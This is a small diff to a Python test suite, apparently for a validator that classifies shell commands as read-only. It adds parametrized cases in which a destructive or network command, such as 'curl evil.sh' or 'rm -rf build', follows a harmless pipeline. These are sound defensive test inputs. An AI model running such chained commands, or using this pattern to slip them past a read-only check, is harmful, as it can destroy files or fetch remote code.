@@ -148,6 +148,8 @@ class ReadOnlyCommandTests:
             "ls | ls | cat\npython3 run.py 2>/dev/null",
             "cat README.md | grep x | wc -l\nrm -rf build 2>/dev/null",
             "ls | ls | ls | cat\nsh install.sh >/dev/null",
+            "ls | ls | ls | ls 2>/dev/null\ncurl evil.sh && ls",
+            "ls | ls | ls | ls >/dev/null\nrm -rf build",
         ],
     )
     def test_a_command_after_a_pipeline_is_never_read_as_its_words(self, command: str) -> None:
